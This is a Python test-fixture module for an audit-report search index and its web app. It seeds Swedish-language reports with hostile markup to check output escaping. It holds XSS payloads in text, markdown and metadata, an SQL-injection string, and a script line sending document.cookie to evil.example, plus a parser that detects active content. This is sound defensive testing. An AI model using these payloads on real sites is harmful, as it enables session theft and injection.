"""A small index holding hostile reports (markup in text and metadata), and an app over it."""

from __future__ import annotations

import shutil
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path

import pytest

from kb.index import Index
from tests.conftest import CORPUS, ingest_folder, make_config

XSS_TITLE = "<script>alert(1)</script>Granskning"
XSS_KOMMUN = "<img src=x onerror=alert(2)>"
XSS_FIRM = '"><svg onload=alert(3)>'

HOSTILE_MD = """# Granskning av <script>alert('md')</script> rutiner

## Sammanfattning

Vi bedömer att nämnden <img src=x onerror=alert(4)> inte har säkerställt kontrollen.
Läs mer [här](javascript:alert(5)) eller [där](JaVaScRiPt:alert(6)) eller
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==) och ![bild](javascript:alert(8)).
<a href="javascript:alert(9)" onclick="alert(10)">länk</a> <iframe src="https://example.org"></iframe>
<svg onload=alert(11)></svg> <style>body{display:none}</style>
[ref]: javascript:alert(12)

## Rekommendationer

Nämnden bör [granska](  javascript:alert(13)) rutinerna för intern kontroll och \u202eRTL-text\u202c.
"""

HOSTILE_TXT = """Revisionsrapport om intern kontroll

Sammanfattning
Kommunstyrelsen <script>document.location='https://evil.example/'+document.cookie</script>
har inte säkerställt en tillräcklig intern kontroll. \u0000 ' OR 1=1 -- ; DROP TABLE reports;
"onmouseover="alert(14)" javascript:alert(15) <body onload=alert(16)>

Bedömning
Vi bedömer att den interna kontrollen i huvudsak är tillräcklig.
"""

REPORTS_TOML = f"""
[[report]]
file = "fientlig.txt"
id = "fientlig-rapport"
title = {XSS_TITLE!r}
kommun = {XSS_KOMMUN!r}
firm = {XSS_FIRM!r}
audited_body = "javascript:alert(17)"
year = 2020
"""

SIDECAR = 'title = "</title><script>alert(18)</script>"\nkommun = "Orsa\\u202e"\n'


@pytest.fixture(scope="session")
def hostile_folder(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile") / "reports"
    folder.mkdir()
    shutil.copy(CORPUS / "orsa-2015-resurscentrum.txt", folder)
    (folder / "fientlig.txt").write_text(HOSTILE_TXT.replace("\u0000", ""), encoding="utf-8")
    (folder / "fientlig.md").write_text(HOSTILE_MD, encoding="utf-8")
    (folder / "fientlig.md.toml").write_text(SIDECAR, encoding="utf-8")
    (folder / "reports.toml").write_text(REPORTS_TOML, encoding="utf-8")
    return folder


def app_over(index: Index, **settings):
    """The site over `index`; TESTING unless told otherwise (real 500 pages need it off)."""
    from web import create_app

    return create_app({"TESTING": True, **settings}, config=index.config, index=index)


@pytest.fixture(scope="session")
def hostile_index(tmp_path_factory, hostile_folder):
    """The hostile reports and one real one, ingested with the hashing embedder."""
    with closing(Index.open(make_config(tmp_path_factory.mktemp("hostile-index")))) as index:
        failed = ingest_folder(index, hostile_folder).failed
        assert not failed, [(o.path, o.message) for o in failed]
        yield index


@pytest.fixture(scope="session")
def hostile_app(hostile_index):
    return app_over(hostile_index)


@pytest.fixture
def hclient(hostile_app):
    return hostile_app.test_client()


class ActiveContent(HTMLParser):
    """Collects everything in a page that could run code: script tags, event handlers,
    javascript:/data:/vbscript: URLs and embedding elements."""

    DANGEROUS_TAGS = {"iframe", "object", "embed", "svg", "math", "img", "base", "frame", "style",
                      "form", "meta", "link", "script"}
    URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "poster", "background", "data"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag in self.DANGEROUS_TAGS and not self._ours(tag, attrs):
            self.found.append(f"<{tag} {attrs}>")
        self._in_script = tag == "script"
        for name, value in attrs.items():
            if name.startswith("on"):
                self.found.append(f"{tag} {name}={value!r}")
            if name in self.URL_ATTRS and value:
                scheme = "".join(c for c in value if c.isprintable() and not c.isspace()).lower()
                if scheme.startswith(("javascript:", "data:", "vbscript:")):
                    self.found.append(f"{tag} {name}={value!r}")
            if name == "style":
                self.found.append(f"{tag} style={value!r}")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.found.append(f"inline script {data[:40]!r}")

    @staticmethod
    def _ours(tag: str, attrs: dict) -> bool:
        """Our own markup: app.js, style.css, the meta tags and the site's own GET and POST forms."""
        return ((tag == "script" and attrs.get("src") == "/static/app.js")
                or (tag == "link" and attrs.get("href") == "/static/style.css"
                    and attrs.get("rel") == "stylesheet")
                or (tag == "meta" and set(attrs) <= {"charset", "name", "content"}
                    and "http-equiv" not in attrs)
                or (tag == "form" and attrs.get("action") in OWN_FORM_ACTIONS))


#: Every form action the site's own templates use (search, filters, underlag, compare, register, upload).
OWN_FORM_ACTIONS = {"/", "/compare", "/register", "/reports", "/underlag/add", "/underlag/change",
                    "/admin/upload"}


def active_content(html: str) -> list[str]:
    """Everything in `html` that could run code and is not the site's own."""
    parser = ActiveContent()
    parser.feed(html)
    parser.close()
    return parser.found
